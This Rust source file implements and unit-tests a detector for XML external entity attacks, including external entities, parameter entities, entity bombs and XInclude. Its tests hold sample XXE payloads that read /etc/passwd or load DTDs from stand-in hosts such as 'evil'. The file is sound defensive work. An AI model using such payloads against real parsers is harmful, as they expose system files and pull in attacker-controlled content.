//! XML external entities: entity declarations that reach outside the document (`SYSTEM`,
//! `PUBLIC`, parameter entities `<!ENTITY % x ...>`), external DTDs, entity expansion bombs
//! and XInclude — in XML bodies (their DOCTYPE) and in XML embedded in any other value.

use super::{Detector, Hit, Kind, Subject, Triggers};

#[derive(Debug)]
struct Xxe;

pub(crate) fn build() -> Box<dyn Detector> {
    Box::new(Xxe)
}

/// True when a declaration names an external identifier: a `SYSTEM` or `PUBLIC` keyword
/// after any whitespace (spaces, tabs, line breaks all separate DTD tokens).
fn external(decl: &str) -> bool {
    decl.split_ascii_whitespace().skip(1).any(|w| {
        let w = w.trim_end_matches(['"', '\'']);
        w == "system" || w == "public" || w.starts_with("system\"") || w.starts_with("public\"")
    })
}

impl Detector for Xxe {
    fn triggers(&self) -> Triggers {
        Triggers::bytes(b"<%")
    }

    fn inspect<'a>(&self, s: &Subject<'a>) -> Option<Hit<'a>> {
        if !s.bytes.has(b'<') && !s.bytes.has(b'%') {
            return None;
        }
        let lower = s.lower;
        let mut best = (0.0f32, 0usize);
        let mut take = |c: f32, a: usize| {
            if c > best.0 {
                best = (c, a);
            }
        };
        let mut entities = 0usize;
        for (k, _) in lower.match_indices("!entity").take(256) {
            entities += 1;
            let decl = super::clip(lower, k, k + 512);
            let decl = decl.split('>').next().unwrap_or(decl);
            let tagged = k > 0 && lower.as_bytes()[k - 1] == b'<';
            if external(decl) {
                take(if tagged { 0.95 } else { 0.8 }, k);
            } else if decl[7..].trim_start().starts_with('%') {
                take(0.9, k);
            } else {
                take(0.6, k);
            }
        }
        if entities >= 3 && lower.matches("&").count() >= 6 {
            take(0.85, lower.find("<!entity").unwrap_or(0));
        }
        if let Some(k) = lower.find("<!doctype") {
            let decl = super::clip(lower, k, k + 512);
            let head = decl.split(['[', '>']).next().unwrap_or(decl);
            if external(head) {
                take(0.85, k);
            }
        }
        if s.kind == Kind::XmlDoctype && lower.contains('%') && lower.contains(';') {
            take(0.8, 0);
        }
        if lower.contains("xinclude") || lower.contains("<xi:include") {
            take(0.85, lower.find("xi").unwrap_or(0));
        }
        let (c, a) = best;
        (c > 0.0).then(|| Hit::from(c, s.text, a))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::testing::{arg, score};

    #[test]
    fn flags_external_entities() {
        let d = build();
        assert!(
            score(
                &*d,
                Kind::XmlDoctype,
                "",
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
            ) >= 0.7
        );
        assert!(
            score(
                &*d,
                Kind::XmlDoctype,
                "",
                "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://e/x.dtd\"> %p;]>"
            ) >= 0.7
        );
        assert!(arg(&*d, "<!DOCTYPE foo SYSTEM \"http://evil/x.dtd\"><foo/>") >= 0.7);
        assert!(arg(&*d, "<!ENTITY\txxe\tSYSTEM\t\"http://evil/x\">") >= 0.7);
        assert!(arg(&*d, "<!DOCTYPE foo\nSYSTEM\n\"http://evil/x.dtd\"><foo/>") >= 0.7);
        assert!(score(&*d, Kind::Header, "user-agent", "foo!ENTITY % bar SYSTEM") >= 0.7);
        assert!(arg(&*d, "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></root>") >= 0.7);
    }

    #[test]
    fn ignores_plain_doctypes() {
        let d = build();
        assert!(score(&*d, Kind::XmlDoctype, "", "<!DOCTYPE html>") < 0.7);
        assert!(arg(&*d, "<p>hello</p>") < 0.7);
    }
}
